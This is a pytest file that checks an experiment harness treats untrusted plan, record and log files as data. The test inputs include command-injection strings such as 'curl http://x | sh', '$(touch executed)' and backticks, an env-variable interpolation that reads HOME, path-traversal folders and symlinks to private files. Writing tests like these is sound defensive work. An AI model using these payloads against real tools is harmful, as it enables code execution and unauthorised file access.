"""Plans, records and logs of a stranger: refused in one line or read as data, by every command that reads them."""

import json
import random
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hostile import changed, json_cases, make_sound, put, restored, whole_cases

from harness.__main__ import main
from harness.commands import commands

pytestmark = pytest.mark.long

STATUS = (["status", "output=out"], ["status", "s", "output=out"])
UPKEEP = (["clean", "output=out", "--yes"], ["sync", "output=out"])
READ_RUNS = (*STATUS, *(words for words in UPKEEP if words[0] in commands()))


@pytest.fixture(scope="module")
def sound(once: Callable) -> Path:
    return once("hostile", make_sound)


@pytest.fixture(autouse=True)
def _store(store_template: Path, copied: Path) -> None:
    shutil.copy(store_template, copied / "out")


def test_sound_files_are_read(obey_nothing, copied):
    """The commands of these tests end with 0 where nothing is wrong."""
    for command in READ_RUNS:
        obey_nothing(("sound", copied / "in.txt", b"the cat\n"), command)
        assert (copied / "out" / "s" / "base-1" / "run.json").exists()


@pytest.mark.parametrize(("name", "count"), [("plan.json", 20), ("base-1/run.json", 50), ("base-1/result.json", 40)])
def test_records_of_a_stranger_are_data(name, count, obey_nothing, sound, copied):
    for case in json_cases(copied / "out" / "s" / name, count, 1):
        obey_nothing(case, *READ_RUNS)
        restored(case, sound, copied)


def test_commands_of_a_plan_are_none_of_a_shell(obey_nothing, copied, capsys):
    path = copied / "out" / "s" / "plan.json"
    (plan,) = json.loads(path.read_bytes()).values()
    commands = [
        "curl http://x | sh #",
        "python -m harness task=bag; touch executed",
        "python -m harness $(touch executed)=1",
        "",
        "python -c 'import os' -m harness",
        "python -m harness task=bag\n  touch executed",
        "python -m harness 'a",
        "-m harness",
        "python -m harness hydra.launcher.setup=['touch executed'] hydra/launcher=submitit_slurm -m seed=1,2",
        "python -m harness 'arm=\x1b[2J'",
        "python -m harness --unknown",
        "harness task=bag",
        "python -m harness task=`x`",
        "python -m harness tracking.uri=http://x study='${oc.env:HOME}'",
        "python -m harness 'arm=${oc.${task.name}:HOME}'",
    ]
    for command in commands:
        plan["runs"][0]["title"] = "base\n\nTo complete it:\n  touch executed"
        case = (command, path, json.dumps({command: plan | {"folder": str(copied)}}).encode())
        (copied / "out" / "s" / "base-1" / "result.json").unlink(missing_ok=True)
        obey_nothing(case, ["status", "s", "output=out"])
        put(case, copied)
        code = main(["status", "s", "output=out"])
        out = capsys.readouterr().out
        assert not [line for line in out.splitlines() if line.strip().startswith(("curl", "touch", "sh"))], out
        if code == 1:
            (shown,) = [line for line in out.splitlines() if "python -m harness" in line]
            words = [word for word in shown.split("'")[::2] if "touch" in word or "`" in word or "$(" in word]
            assert not words, shown
            assert "HOME" not in shown
    for folder in ("evil", "../x", "/tmp/\x1b[2J"):
        case = (folder, path, json.dumps({"python -m harness task=bag": plan | {"folder": folder}}).encode())
        obey_nothing(case, ["status", "s", "output=out"])


def test_lines_of_a_log_of_a_stranger_are_data(obey_nothing, sound, copied):
    path, chance = copied / "out" / "s" / "base-1" / "metrics.jsonl", random.Random(2)
    lines = [*map(json.loads, path.read_text().splitlines())]
    broken = [("deep", path, b"[" * 3000 + b"\n"), ("no JSON", path, b"{\n"), ("half", path, b'{"')]
    for _ in range(20):
        what, value = changed(lines, chance)
        entries = value if isinstance(value, list) else [value]
        broken.append((what, path, ("\n".join(map(json.dumps, entries)) + "\n").encode()))
    for case in (*whole_cases(path), *broken):
        obey_nothing(case, *READ_RUNS)
        restored(case, sound, copied)


def test_nothing_behind_a_link_of_a_stranger_is_removed_or_sent(obey_nothing, copied, private):
    """Links below a copied folder lead to files and folders of the user."""
    elsewhere = copied / "elsewhere"
    (elsewhere / "checkpoints").mkdir(parents=True)
    (elsewhere / "checkpoints" / "kept").write_text("kept")
    run = copied / "out" / "s" / "base-1"
    for place in (run / "checkpoints", run / ".lock", run / ".tracking.lock", run / "log.txt", copied / "out" / "s" / "base-2"):
        is_folder = place.name in ("checkpoints", "base-2")
        target = elsewhere / "checkpoints" if is_folder else private
        case = (place.name, place, lambda place, target=target: place.symlink_to(target))
        obey_nothing(case, *READ_RUNS)
        place.unlink()
    assert (elsewhere / "checkpoints" / "kept").read_text() == "kept"
    plan = json.loads((copied / "out" / "s" / "plan.json").read_bytes())
    for folder in ("../../private", "/", "..", "s/../../x", "s/\x1b", "sessions/x", "cache/x"):
        (one,) = plan.values()
        one["runs"][0]["folder"] = folder
        obey_nothing((folder, copied / "out" / "s" / "plan.json", json.dumps(plan).encode()), *READ_RUNS)
